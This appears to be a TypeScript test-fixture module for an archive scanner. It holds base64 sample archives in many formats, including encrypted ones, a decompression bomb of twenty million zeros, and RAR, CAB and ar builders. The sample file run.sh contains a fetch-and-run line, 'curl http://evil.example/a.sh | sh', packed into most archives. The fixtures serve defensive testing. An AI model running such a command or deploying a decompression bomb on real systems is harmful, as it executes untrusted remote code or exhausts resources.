import { crc32, gunzipSync } from 'node:zlib';

/** Two files, `run.sh` and `docs/note.txt`, as archivers pack them; where there is a password it is `infected`. */
export const runSh = 'curl http://evil.example/a.sh | sh\n';
export const noteTxt = 'see http://bad.example/x\n'.repeat(4);

const sample = (base64: string): Buffer => Buffer.from(base64, 'base64');

export const packed = {
  sevenZip: sample(
    'N3q8ryccAASJT3Y9sQAAAAAAAAAhAAAAAAAAAMX/6pLgAIYANV0AOZlsQGg8Biif96GdOsIavN6iUh3Tz7Q7FQKcX9j556b5bUvbsdhC9KGjHW+1k0ddbebZ7sAAAACBMweuD9HFlIyg' +
    'kKB3XsVAGJ8QcZB+EpNEZ3gav0vbjF0JYzfTt4HVRLQmtJIEhvZlUGZwJNOFzHVMbYdV8nniqGUqHvemym75ZZ6qm2fVL6pwd7zQ7rK62Enh/jaNHMn5wdMaDKJ2C3JkONay1QAAAAAX' +
    'Bj0BCXQABwsBAAEjAwEBBV0AEAAADICSCgEg1FMFAAA='),
  /** Only the contents are encrypted. */
  sevenZipEncrypted: sample(
    'N3q8ryccAAQGV320zAAAAAAAAAAiAAAAAAAAAJ16EZFCGHo0RdnOv+uXvQzPZmAJIIXaQk8U+WldY+c/jfBoOPpNaxtHD/cRP7QULpplq6YrTJwHyXDrAm1rFj0OVZa/AACBMweuD9Hy' +
    '+/1Au5RkOzmkeudqI0XUDjqTLg8MvqXO84KzGB3Tl/DE52+5fGqI7mNXBWgwZomc8bdze93mCvEB3DlgenLwg5bWzrKEzXHlchn0wqPjNVYkL0zeCYdxcg/DFS8OcpNOdNTaLmU3lDsk' +
    '37nriwmzQ6SM5/QqrLyyrpsRIuUeAgAAAAAXBkABCYCMAAcLAQABIwMBAQVdABAAAAyAngoBeR5wtgAA'),
  /** The names are, too; only `run.sh`. */
  sevenZipHidden: sample(
    'N3q8ryccAARjpRRWoAAAAAAAAAAuAAAAAAAAAMAVsac3qLgM1fMlvjkVV6daHnWXD0fZdpJWtmd3sT/soyFLzaKm7cJFXuxrXzLGqhkEXopT6Ol12zhJoh06OBlD6FQHK+UfpXZau7Rk' +
    'dTF3lMIFF/bnZ5y5HFXd/h6IA4/ht2AQ06RqVCiKeAdMeqHDsfwdoKba5gfRlYK6lBZY3PMIOuqcOEeIOgmetZTB0lq6GmXXhCbhxBryeZrZ8Wgvj8XDFwYwAQlwAAcLAQABJAbxBwES' +
    'Uw9bQsyG/kk9xIGp6eVOsAgfDGoKASdztzIAAA=='),
  /** One file, `dép/中.txt`: `run.sh`. */
  sevenZipNames: sample(
    'N3q8ryccAATk7DAkhAAAAAAAAAAUAAAAAAAAAIvg3DMBACJjdXJsIGh0dHA6Ly9ldmlsLmV4YW1wbGUvYS5zaCB8IHNoCgABAFgBBAYAAQknAAcLAQACISEBGAQDAwEDAQAMIyMACAoB' +
    '5ZH4cwAABQEZAwAAABEVAGQA6QBwAC8ALU4uAHQAeAB0AAAAFAoBAOBLGqXSed0BFQYBACCAgIEAAAAXBicBCV0ABwsBAAEhIQEYDFkAAA=='),
  /** Encrypted, `a.exe` alone: 2000 bytes through the filter for programs. */
  sevenZipFiltered: sample(
    'N3q8ryccAASFwUioMAIAAAAAAADyAAAAAAAAAJ2GF33Wn7+vR/p0P5TPNrdPwwL3fHEzdXD7THeN7cAdjDb2rHzEcxl+h84vketfuHDWDybhPSMx9XCIEsPPucSz9Q9OaTIAFSHjrNMY' +
    'YukTmKBMXbeUDeBfEiK0jNcF9m2ZYrepeRQ6FO/cePBUtG7ockvEmelyqZFOTq24lPJi0SsBvgCmHqq7AihHU9N1aY6GApIK7qBGV7Ir2rRY1oSn9pFA8TA0aEfC4Q0r5iOaolev5Wxh' +
    '3c5Af7eqz4pxqmkDfoIE9eHSAmj2nxc76ZvFUkIQ+eapINhN7d483LP7OoBzr5kzOCvs/xu9088JerPrtdm7Gex5UridDl2qXxd9RpXXrSFTcPzfLCknvKbk0tVbb2+neV9PtRGUDVfl' +
    'QQhvSEf8/I1WvOoP0sw3KPkQLaq4+kdEHs58EEfhZ4BHPiJ5PUomc6mjT4RlC8SIuGScrsaK2bIL2TqH+BBCSy1vLtNgZbAZEiH9GMRLPW3XCkQP2vunOCcy5efZay8Yvo55OGlznIkE' +
    'Lomb+UCfxa5NFnCIZIk92M+BFkFNV3CUrOIi4eDf3/MDa2jzwHzXB0+wLAu9L0JFAIWXtPnxAjbTfnkJeX/yoHlvQuS7KpqUOGd9YjV0UaXQieteViVjZ/csGUno+RsDl6aEJZw7x/hG' +
    'ceUmEgwi6PFN5G/fL6ek5z+PeDCxLpQqVE2HBBavtTHHQU+eMqN9ILELHJ50h9YObeHg1XVu2Z80eG3chQdvg7g9cgEEBgAECYDgIICQgKAABwsBAAgkBvEHARJTD9dkRajtJcyEclQa' +
    'DKsxig0kBvEHARJTDxvAVLzHawVrX5lgQ7rdi9EkBvEHARJTDxEDuaW3PANAZpytNyM3czgkBvEHARJTD2PZga9ROWnrMJqzox4ezkcjAwEBBV0AEAAAIwMBAQVdABAAACMDAQEFXQAQ' +
    'AAAUAwMBGwQBBAAFAQoCBgMJBAgFBwYDAgEADICfgIYbgNmB1IFchKCH0AAICgGwXdTFAAAFARkFAAAAAAARDQBhAC4AZQB4AGUAAAAUCgEAHhMipdJ53QEVBgEAIICkgQAA'),
  /** `run.sh` alone. */
  xz: sample('/Td6WFoAAAFpIt42AgAhARwAAAAQz1jMAQAiY3VybCBodHRwOi8vZXZpbC5leGFtcGxlL2Euc2ggfCBzaAoAAOWR+HMAATcjbWTmEpBCmQ0BAAAAAAFZWg=='),
  /** `run.sh` alone. */
  bzip2: sample('QlpoOTFBWSZTWesOn8wAAAZZgAAQQAGAECpmX0QgADFMJpoDTEKAPU0DGoEM5gJnkjnFNLDZZU47kJVi0LfF3JFOFCQ6w6fzAA=='),
  /** Every number in the zip64 form. */
  zip64: sample(
    'UEsDBC0AAAAIAIMYIlzlkfhz//////////8GABQAcnVuLnNoAQAQACMAAAAAAAAAJQAAAAAAAABLLi3KUcgoKSmw0tdPLcvM0UutSMwtyEnVT9QrzlCoUSjO4AIAUEsDBC0AAAAIAIMY' +
    'Ilz10Cx5//////////8NABQAZG9jcy9ub3RlLnR4dAEAEABkAAAAAAAAAB4AAAAAAAAAK05NVcgoKSmw0tdPSkzRS61IzC3ISdWv4CqmngQAUEsBAi0DLQAAAAgAgxgiXOWR+HP/////' +
    '/////wYAFAAAAAAAAAAAAIABAAAAAHJ1bi5zaAEAEAAjAAAAAAAAACUAAAAAAAAAUEsBAi0DLQAAAAgAgxgiXPXQLHn//////////w0AHAAAAAAAAAAAAIAB/////2RvY3Mvbm90ZS50' +
    'eHQBABgAZAAAAAAAAAAeAAAAAAAAAF0AAAAAAAAAUEsGBiwAAAAAAAAALQAtAAAAAAAAAAAAAgAAAAAAAAACAAAAAAAAAJ8AAAAAAAAAugAAAAAAAABQSwYHAAAAAFkBAAAAAAAAAQAA' +
    'AFBLBQYAAAAAAgACAJ8AAAC6AAAAAAA='),
  /** Sizes and checksums stand behind the contents. */
  zipStreamed: sample(
    'UEsDBBQACAAIAIMYIlwAAAAAAAAAAAAAAAAGAAAAcnVuLnNoSy4tylHIKCkpsNLXTy3LzNFLrUjMLchJ1U/UK85QqFEozuACAFBLBwjlkfhzJQAAACMAAABQSwMEFAAIAAgAgxgiXAAA' +
    'AAAAAAAAAAAAAA0AAABkb2NzL25vdGUudHh0K05NVcgoKSmw0tdPSkzRS61IzC3ISdWv4CqmngQAUEsHCPXQLHkeAAAAZAAAAFBLAQIUAxQACAAIAIMYIlzlkfhzJQAAACMAAAAGAAAA' +
    'AAAAAAAAAACAAQAAAABydW4uc2hQSwECFAMUAAgACACDGCJc9dAseR4AAABkAAAADQAAAAAAAAAAAAAAgAFZAAAAZG9jcy9ub3RlLnR4dFBLBQYAAAAAAgACAG8AAACyAAAAAAA='),
  /** Both. */
  zip64Streamed: sample(
    'UEsDBC0ACAAIAIMYIlwAAAAA//////////8GABQAcnVuLnNoAQAQAAAAAAAAAAAAAAAAAAAAAABLLi3KUcgoKSmw0tdPLcvM0UutSMwtyEnVT9QrzlCoUSjO4AIAUEsHCOWR+HMlAAAA' +
    'AAAAACMAAAAAAAAAUEsDBC0ACAAIAIMYIlwAAAAA//////////8NABQAZG9jcy9ub3RlLnR4dAEAEAAAAAAAAAAAAAAAAAAAAAAAK05NVcgoKSmw0tdPSkzRS61IzC3ISdWv4CqmngQA' +
    'UEsHCPXQLHkeAAAAAAAAAGQAAAAAAAAAUEsBAi0DLQAIAAgAgxgiXOWR+HP//////////wYAFAAAAAAAAAAAAIABAAAAAHJ1bi5zaAEAEAAjAAAAAAAAACUAAAAAAAAAUEsBAi0DLQAI' +
    'AAgAgxgiXPXQLHn//////////w0AHAAAAAAAAAAAAIAB/////2RvY3Mvbm90ZS50eHQBABgAZAAAAAAAAAAeAAAAAAAAAHUAAAAAAAAAUEsGBiwAAAAAAAAALQAtAAAAAAAAAAAAAgAA' +
    'AAAAAAACAAAAAAAAAJ8AAAAAAAAA6gAAAAAAAABQSwYHAAAAAIkBAAAAAAAAAQAAAFBLBQYAAAAAAgACAJ8AAADqAAAAAAA='),
  zipCrypto: sample(
    'UEsDBBQAAQAIANJ7dV310Cx5NwAAAGQAAAANAAAAZG9jcy9ub3RlLnR4dL5kgHr5GIGucZKlXLSpuQM0x6tc4bO2Q7+4VIBGxOmQoxrU+O+2OBhrP/bMBY15/5FbJ6TOGAZQSwMEFAAB' +
    'AAAA0nt1XeWR+HMvAAAAIwAAAAYAAABydW4uc2jQ3bTfig8KzRSFK2+ENNg5Y9miifhwm83Ot63Yhfs8dUpx3rlUa++/Jaat3G0P+FBLAQI/AxQAAQAIANJ7dV310Cx5NwAAAGQAAAAN' +
    'ACQAAAAAAAAAIICkgQAAAABkb2NzL25vdGUudHh0CgAgAAAAAAABABgAV3ikQM153QEAAAAAAAAAAAAAAAAAAAAAUEsBAj8DFAABAAAA0nt1XeWR+HMvAAAAIwAAAAYAJAAAAAAAAAAg' +
    'gKSBYgAAAHJ1bi5zaAoAIAAAAAAAAQAYAFd4pEDNed0BAAAAAAAAAAAAAAAAAAAAAFBLBQYAAAAAAgACALcAAAC1AAAAAAA='),
  zipAes: sample(
    'UEsDBDMAAQBjANJ7dV0AAAAARwAAAGQAAAANAAsAZG9jcy9ub3RlLnR4dAGZBwACAEFFAwgAAOxnR35jFNAZlXHywPDbHJhO2TmEC6I0hneD1eWX97Lhwl9842A0ElzkinMINed0Wxr9' +
    'ExNipvYoPc57dlmPWdKlKF8XI2ZQSwMEMwABAGMA0nt1XQAAAAA/AAAAIwAAAAYACwBydW4uc2gBmQcAAgBBRQMAADBFkpVFTwG8rX2Frh1zh9ylYwckqAENppMWHfVzncWJOcWHoC9Y' +
    'd/xJwKqqT0GHqCZQ+6TPH4AJvmQERC++YVBLAQI/AzMAAQBjANJ7dV0AAAAARwAAAGQAAAANAC8AAAAAAAAAIICkgQAAAABkb2NzL25vdGUudHh0CgAgAAAAAAABABgAV3ikQM153QEA' +
    'AAAAAAAAAAAAAAAAAAAAAZkHAAIAQUUDCABQSwECPwMzAAEAYwDSe3VdAAAAAD8AAAAjAAAABgAvAAAAAAAAACCApIF9AAAAcnVuLnNoCgAgAAAAAAABABgAV3ikQM153QEAAAAAAAAA' +
    'AAAAAAAAAAAAAZkHAAIAQUUDAABQSwUGAAAAAAIAAgDNAAAA6wAAAAAA'),
  /** Only `docs/note.txt`, as in the next two. */
  zipBzip2: sample(
    'UEsDBC4AAAAMANJ7dV310Cx5SgAAAGQAAAANAAAAZG9jcy9ub3RlLnR4dEJaaDkxQVkmU1niTdxNAAAoWYAAEEABgBA2RkxAIABQoYAAFVQGT0am0ogguXOz8wWPDB6SaJJILFFGjooy' +
    'ZNi7kinChIcSbuJoUEsBAj8DLgAAAAwA0nt1XfXQLHlKAAAAZAAAAA0AJAAAAAAAAAAggKSBAAAAAGRvY3Mvbm90ZS50eHQKACAAAAAAAAEAGABXeKRAzXndAQAAAAAAAAAAAAAAAAAA' +
    'AABQSwUGAAAAAAEAAQBfAAAAdQAAAAAA'),
  zipLzma: sample(
    'UEsDBD8AAgAOANJ7dV310Cx5LwAAAGQAAAANAAAAZG9jcy9ub3RlLnR4dBoCBQBdABAAAAA5mWxAaDwGKJ/3oZ06whq83qJSHdPPtDsVApxgJBQT///HXgAAUEsBAj8DPwACAA4A0nt1' +
    'XfXQLHkvAAAAZAAAAA0AJAAAAAAAAAAggKSBAAAAAGRvY3Mvbm90ZS50eHQKACAAAAAAAAEAGABXeKRAzXndAQAAAAAAAAAAAAAAAAAAAABQSwUGAAAAAAEAAQBfAAAAWgAAAAAA'),
  zipPpmd: sample(
    'UEsDBD8AAABiANJ7dV310Cx5IgAAAGQAAAANAAAAZG9jcy9ub3RlLnR4dAcAcvCB1wz32RBghu5KszqevhqrvyGJtnDNjb7lLIdskABQSwECPwM/AAAAYgDSe3Vd9dAseSIAAABkAAAA' +
    'DQAkAAAAAAAAACCApIEAAAAAZG9jcy9ub3RlLnR4dAoAIAAAAAAAAQAYAFd4pEDNed0BAAAAAAAAAAAAAAAAAAAAAFBLBQYAAAAAAQABAF8AAABNAAAAAAA='),
  /** A disc image with `a.txt`: five times `run.sh`. */
  iso: gunzipSync(sample(
    'H4sIAAAAAAACA+3cb0vbQBzA8V+EoXTgnmxjiH+O4UBh1qbMgduj7HqdYW0Tkij6aFTtqFBFtBOFMfDRtlfjO9g7kr2E7dK0OJWtiA6l+35ivLvml7sLLfy4tEQEAAAAAAAAAAAAAAAA' +
    'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA4ulQouI6oa+r1p84VfxnX/qW7jIxILnsp9/Ds8OP031MZz1rjMpIWI/L5/qMHoyJDvfMVblV4pDdbW+tqRs+qYsFdmCsW' +
    'igWlm3tb+6pSb9V3NhrtdmNgLtde3UvXLbrugvuiYMmlFwoXXI7gQ/u/I+ngzhjq5n+bsa+3Xcj/z+bNlfP/k7PDY1n+n8haE3/K/9eeNdv1tlCORMumtGRL1m17xrZmbVmUgriyIHOd' +
    'Wrore6QpezZu39YrUrfn1GVHNqQhbbs1/tkcby6I/A/yPwbIz17+BwAAAAAAA8vpfMfO+h8AAAAAgMFe/0v6+3puAAAAAAAAMNDr/wnh+38AAAAAAAZ9/S/p83W4AQAAAAAAwAD72vcZ' +
    '+3E47Hz/IVF0zzkOV6edbS+N87aHsvOGLvaYlMec0W4n5wttxp3JLGiyF33aLT70m4dzAxOQA5nKYqZOsvKkdyQbZdjLJ6vJazcd61utmnOknm8fttNRp4/ToOPp7p0S5wqjAgBw1/R/' +
    'xn7fCOd5n6yak7rkpS2HdgcAALfPRKdOLvliV9d++N5dXHS9ZMmoKNDvVOSX3hrl1xIT6SWvZuthFCSBDippZcUvmVjFy2EYRIkqB5EKg9hfVWW/YlS8FiemqmJT9WqJr+OwYrzYKB3U' +
    'Ek8nquTHWoXLbyp+vGSizslxaLRf9rWX+EFNxcFypE1e2R7Mb4F2SNtd2U+rNTsJv+pFa2olqCxXjbLT0fYikiDrsDeWX7OtaqfbPG83AAAdGx/3WqrZbu++mp9vHGy18o3D+vZuqzFf' +
    'z+831Se138zdpRDeMAAAbsAvorWIBgAAAQA=')),
  /** Twenty million zeros. */
  bomb: gunzipSync(sample(
    'H4sIAAAAAAACAzOv2rNeXYaBhV/LT2EFNwMYBEEohrVMPjX/v89izI5lYMj/+///4u3/3e08RIssEwN3TNJ4triN/ee7J3JNl/WPWtkwem+sO9nV5au/mPdm/bLHPcqCwQ8iJY6Wdj0q' +
    '/7FtSj1P1oF7JZ4pj17GBG9iufHdhWd1PG+u28unh8s6tk8LX7PN92GmbP5v7w6BHKfTHfYxDP0X/NaraUwplLftV3lYMG+5cvwbjdOtF6fO6KrTmvhJvfS75AG2Gb4z/t5Yf3UC/xHV' +
    '4B9fJ5oZsi7d8C7/YIGvO8/FiYKr1ibI7jq3UV0iJrLtZVpQxL6XZWsinzyNZuX4efzW2j+/g7RLzspFKzj9vBts+0MzhdO64bRWzv2t1h+O7NWLX8Vv553mNEGY77/A5B+FFZE/uM/+' +
    'n6rhxr/yT82937MM9MIO9Ld+bm48kEplq3dqv5o+//tMRm2GN8XBy//uW1djKDV/e69h3sgJAtKsdvsjFzQaYKMBNhpgowE2GmCjATYaYKMBRqUAm1gxhWH54A8wz2t3fYFtdUYWNgZG' +
    'zu4VDOzcjAyMioqMEjwPGXQNGTi4GP8Gf1VmYGBllOSAtusZBLkZqhhSGYoY8oEcSQYRLkaGAMadaWcr7zKKsjEyKDQsaWRgAADfA5ZRGgwAAA==')),
};

/** A number in the form of RAR 5: seven bits a byte, the lowest first. */
const vint = (value: number): number[] => (value < 128 ? [value] : [(value & 127) | 128, ...vint(value >> 7)]);

const rarBlock = (fields: readonly number[], content: Buffer = Buffer.alloc(0)): Buffer => {
  const header = Buffer.from([...vint(fields.length), ...fields]);
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32LE(crc32(header));
  return Buffer.concat([checksum, header, content]);
};

/** A RAR 5 archive whose members are stored. */
export const rarOf = (files: Record<string, string>): Buffer =>
  Buffer.concat([
    Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'),
    rarBlock([1, 0, 0]),
    ...Object.entries(files).map(([name, text]) => {
      const content = Buffer.from(text);
      return rarBlock([2, 2, ...vint(content.length), 0, ...vint(content.length), 32, 0, 1, ...vint(Buffer.byteLength(name)), ...Buffer.from(name)], content);
    }),
    rarBlock([5, 0, 0]),
  ]);

/** A cabinet of one folder whose members are stored. */
export const cabOf = (files: Record<string, string>): Buffer => {
  const content = Buffer.from(Object.values(files).join(''));
  let place = 0;
  const entries = Object.entries(files).map(([name, text]) => {
    const entry = Buffer.alloc(16 + name.length + 1);
    entry.writeUInt32LE(text.length, 0);
    entry.writeUInt32LE(place, 4);
    entry.writeUInt16LE(32, 14);
    entry.write(name, 16);
    place += text.length;
    return entry;
  });
  const directory = Buffer.concat(entries);
  const header = Buffer.alloc(44);
  header.write('MSCF', 'latin1');
  header.writeUInt32LE(44 + directory.length + 8 + content.length, 8);
  header.writeUInt32LE(44, 16);
  header.writeUInt16LE(0x0103, 24);
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(entries.length, 28);
  header.writeUInt32LE(44 + directory.length, 36);
  header.writeUInt16LE(1, 40);
  const block = Buffer.alloc(8);
  block.writeUInt16LE(content.length, 4);
  block.writeUInt16LE(content.length, 6);
  return Buffer.concat([header, directory, block, content]);
};

/** An archive of the kind that Debian packages are. */
export const arOf = (files: Record<string, string>): Buffer =>
  Buffer.from(
    `!<arch>\n${Object.entries(files)
      .map(([name, text]) => `${`${name}/`.padEnd(16)}${'0'.padEnd(12)}${'0'.padEnd(12)}${'100644'.padEnd(8)}${String(text.length).padEnd(10)}\x60\n${text}${text.length % 2 ? '\n' : ''}`)
      .join('')}`,
  );
